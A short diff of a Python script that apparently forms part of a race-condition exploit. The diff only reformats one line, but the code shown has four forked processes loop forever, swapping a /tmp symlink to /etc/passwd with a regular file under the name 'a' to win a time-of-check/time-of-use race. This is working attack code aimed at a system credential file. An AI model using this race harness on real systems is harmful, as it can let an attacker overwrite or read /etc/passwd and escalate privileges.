@@ -11,5 +11,7 @@ for _ in range(4):
         os.setsid()
         name = str(os.getpid())
         while True:
-            try: os.symlink('/etc/passwd', '/tmp/' + name); os.rename('/tmp/' + name, 'a'); open('/tmp/' + name, 'w').close(); os.rename('/tmp/' + name, 'a')
+            try:
+                os.symlink('/etc/passwd', '/tmp/' + name); os.rename('/tmp/' + name, 'a')
+                open('/tmp/' + name, 'w').close(); os.rename('/tmp/' + name, 'a')
             except OSError: pass
